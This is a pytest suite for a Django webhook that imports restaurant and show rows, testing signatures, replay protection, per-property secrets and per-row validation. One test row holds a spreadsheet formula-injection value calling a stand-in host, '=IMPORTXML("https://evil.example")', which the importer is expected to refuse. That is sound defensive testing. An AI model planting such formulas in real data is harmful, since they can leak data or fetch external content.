"""A sheet sends rows: signed, fresh, once; every bad row is told and stops no other."""

from __future__ import annotations

import hashlib
import hmac
import json
import uuid
from collections.abc import Callable
from datetime import timedelta
from typing import Any

import pytest
from django.http import HttpResponse
from django.test import Client
from django.utils import timezone
from pytest_django import Settings

from apps.catalog.models import Item, Restaurant, Show
from apps.knowledge.models import Passage
from apps.properties.models import Property
from apps.staff.intake import deliveries, row_import
from apps.staff.models import Delivery
from tests import factories

SECRET = "a secret of the tests"  # noqa: S105 - it opens nothing
ROW = {
    "name": "Ballo",
    "cuisine": "Italian",
    "price_band": 3,
    "status": "Live",
    "aliases": "Ballo Italian, the Italian place",
    "hours": "wed-sun 17:00-22:00; mon 12:00-15:00",
}


@pytest.fixture(autouse=True)
def secret(settings: Settings) -> None:
    settings.CMS_WEBHOOK_SECRET = SECRET


def body(*rows: dict[str, Any], **changes: Any) -> bytes:
    sent = {
        "id": str(uuid.uuid4()),
        "sent_at": timezone.now().isoformat(),
        "property": "mohegan-sun",
        "category": "restaurants",
        "rows": list(rows),
    }
    return json.dumps({**sent, **changes}).encode()


def send(text: bytes, *, key: str = SECRET) -> HttpResponse:
    signature = hmac.new(key.encode(), text, hashlib.sha256).hexdigest()
    answer: Any = Client(enforce_csrf_checks=True).post(
        "/cms/webhook",
        text,
        content_type="application/json",
        headers={"x-cms-signature": f"sha256={signature}"},
    )
    return answer  # type: ignore[no-any-return]


def applied(*rows: dict[str, Any], **changes: Any) -> Delivery:
    """The delivery after the worker had it."""
    answer = send(body(*rows, **changes))
    assert answer.status_code == 202, answer.content
    delivery = Delivery.objects.get(pk=json.loads(answer.content)["id"])
    deliveries.apply(delivery.pk)
    delivery.refresh_from_db()
    return delivery


def test_a_row_of_the_sheet_can_be_asked_about(mohegan: Property) -> None:
    delivery = applied(ROW)
    assert (delivery.state, delivery.results[0]["outcome"]) == ("applied", "new")
    row = Restaurant.objects.get(slug="ballo")
    assert row.source == "The content system of the property"
    assert (row.property, row.price_band, row.status) == (mohegan, 3, "live")
    assert row.aliases == ["Ballo Italian", "the Italian place"]
    assert row.hours.count() == 6
    assert Passage.objects.filter(item=row, text__contains="Italian").exists()


def test_only_what_the_sheet_says_changes(mohegan: Property) -> None:
    applied(ROW)
    delivery = applied({"slug": "ballo", "dress_code": "Smart casual"})
    assert delivery.results[0]["changes"] == {"dress_code": ["", "Smart casual"]}
    row = Restaurant.objects.get(slug="ballo")
    assert (row.cuisine, row.dress_code) == ("Italian", "Smart casual")
    assert row.hours.count() == 6
    assert applied({"slug": "ballo", "cuisine": "Italian"}).results[0]["outcome"] == (
        "same"
    )


def test_a_bad_row_is_told_by_number_and_column_and_stops_no_other(
    mohegan: Property,
) -> None:
    delivery = applied(
        {**ROW, "price_band": "eleven"},
        {**ROW, "name": "Tuscany", "hours": "wed-sun 5pm", "price_band": "9"},
        {**ROW, "name": "Bow & Arrow", "cuisines": "Pub"},
        {**ROW, "name": '=IMPORTXML("https://evil.example")'},
        {"cuisine": "French"},
        {**ROW, "name": "Pepe's"},
    )
    assert delivery.state == "partly"
    errors = [one["errors"] for one in delivery.results]
    assert "price_band" in errors[0]
    assert set(errors[1]) == {"hours", "price_band"}
    assert "did you mean “cuisine”" in errors[2]["cuisines"]
    assert "formula" in errors[3]["name"]
    assert "name" in errors[4]
    assert [row.name for row in Restaurant.objects.all()] == ["Pepe's"]


@pytest.mark.parametrize(
    "rows_and_values",
    [
        ({**ROW, "cuisine": "Ital\0ian"}, {}),
        ({**ROW, "cuis\0ine": "Italian"}, {}),
        (ROW, {"property": "mohegan\0sun"}),
    ],
)
def test_what_no_text_may_hold_is_refused_at_the_door(
    mohegan: Property, rows_and_values: tuple[dict[str, Any], dict[str, Any]]
) -> None:
    row, values = rows_and_values
    answer = send(body(row, **values))
    assert answer.status_code == 422
    assert "NUL" in answer.content.decode()


@pytest.mark.parametrize(
    ("text", "words"),
    [
        (lambda: b"\xff", "JSON"),
        (lambda: body({**ROW, "cuisine": "\ud800"}), "JSON"),
        (lambda: body({**ROW, "\ud800": "Italian"}), "JSON"),
        (lambda: body(ROW, property="\ud800"), "JSON"),
        (
            lambda: body({**ROW, "price_band": float("nan")}),
            "rows.0.price_band: Value error, it is no number",
        ),
        (
            lambda: body({**ROW, "price_band": float("inf")}),
            "rows.0.price_band: Value error, it is no number",
        ),
        (
            lambda: body(ROW).replace(b": 3", b": 1e999"),
            "rows.0.price_band: Value error, it is no number",
        ),
        (lambda: body(ROW).replace(b": 3", b": " + b"3" * 5000), "JSON"),
    ],
)
def test_it_refuses_what_no_row_can_store(
    mohegan: Property, text: Callable[[], bytes], words: str
) -> None:
    answer = send(text())
    assert answer.status_code == 422
    assert words in json.loads(answer.content)["error"]["message"]
    assert not Delivery.objects.exists()


def test_it_says_how_large_a_delivery_may_be(mohegan: Property) -> None:
    answer = send(body({**ROW, "details": "x" * 9 * 2**20}))
    assert answer.status_code == 413
    assert "2.5" in json.loads(answer.content)["error"]["message"]


def test_a_row_that_the_database_refuses_stops_no_other(mohegan: Property) -> None:
    rows = [{**ROW, "cuisine": "Ital\0ian"}, {**ROW, "name": "Pepe's"}]
    row_results = row_import.import_rows(mohegan, "restaurants", rows, "a test")
    assert [result.outcome for result in row_results] == ["refused", "new"]


def test_it_leads_to_no_row_of_another_property(
    mohegan: Property, foxwoods: Property
) -> None:
    factories.VenueFactory.create(property=foxwoods, slug="grand-theater")
    show = {"name": "Jazz", "genre": "Jazz", "is_free": "yes"}
    row = {**show, "at_venue": "grand-theater"}
    delivery = applied(row, category="shows")
    assert "No row of this property" in delivery.results[0]["errors"]["at_venue"]
    factories.VenueFactory.create(property=mohegan, slug="wolf-den")
    assert applied({**show, "at_venue": "wolf-den"}, category="shows").state == (
        "applied"
    )
    assert Show.objects.get().is_free


def test_the_same_delivery_counts_once(mohegan: Property) -> None:
    text = body(ROW)
    assert send(text).status_code == 202
    again = send(text)
    assert again.status_code == 200
    assert Delivery.objects.count() == 1


@pytest.mark.parametrize(
    ("text", "status", "words"),
    [
        (lambda: b"not json", 422, "JSON"),
        (body, 422, "rows"),
        (lambda: body(ROW, category="pets"), 422, "expected one of restaurants"),
        (lambda: body(ROW, property="atlantis"), 403, "atlantis"),
        (lambda: body(ROW, sent_at="2026-11-20T12:00:00"), 422, "sent_at"),
    ],
)
def test_nonsense_is_refused_in_words(
    mohegan: Property, text: Callable[[], bytes], status: int, words: str
) -> None:
    """Made when it is sent: what was made five minutes ago is a recording."""
    answer = send(text())
    assert answer.status_code == status
    assert words in answer.content.decode()
    assert not Delivery.objects.exists()


def test_a_stranger_and_a_recording_are_refused(
    mohegan: Property, settings: Settings
) -> None:
    assert send(body(ROW), key="guessed").status_code == 403
    old = (timezone.now() - timedelta(minutes=6)).isoformat()
    assert send(body(ROW, sent_at=old)).status_code == 403
    settings.CMS_WEBHOOK_SECRET = ""
    assert send(body(ROW), key="").status_code == 403
    assert not Item.objects.exists()


def test_staff_read_what_became_of_it(mohegan: Property, admin_client: Client) -> None:
    delivery = applied(ROW, {**ROW, "name": "Tuscany", "price_band": "eleven"})
    listed = admin_client.get("/admin/staff/delivery/").content.decode()
    assert "Applied in part" in listed
    assert "1 new, 1 refused" in listed
    address = f"/admin/staff/delivery/{delivery.pk}/change/"
    assert "price_band" in admin_client.get(address).content.decode()


def test_a_secret_signs_the_rows_of_its_own_property_alone(
    mohegan: Property, foxwoods: Property, settings: Settings
) -> None:
    settings.CMS_WEBHOOK_SECRETS = {"foxwoods": "theirs", "empty": ""}
    for place, key, status in [
        (mohegan, SECRET, 202),
        (foxwoods, "theirs", 202),
        (foxwoods, SECRET, 403),
        (mohegan, "theirs", 403),
    ]:
        assert send(body(ROW, property=place.slug), key=key).status_code == status
    assert send(body(ROW, property="empty"), key="").status_code == 403
    counts = [place.deliveries.count() for place in (mohegan, foxwoods)]
    assert counts == [1, 1]


def test_an_id_of_another_property_is_refused_in_words(
    mohegan: Property, foxwoods: Property, settings: Settings
) -> None:
    """The other property's delivery is hidden from the one that sends."""
    settings.CMS_WEBHOOK_SECRETS = {"foxwoods": SECRET}
    theirs = body(ROW)
    assert send(theirs).status_code == 202
    own = body(ROW, id=json.loads(theirs)["id"], property="foxwoods")
    answer = send(own)
    assert answer.status_code == 409
    assert "id: it is that of another delivery" in answer.content.decode()
    assert Delivery.objects.get().property == mohegan
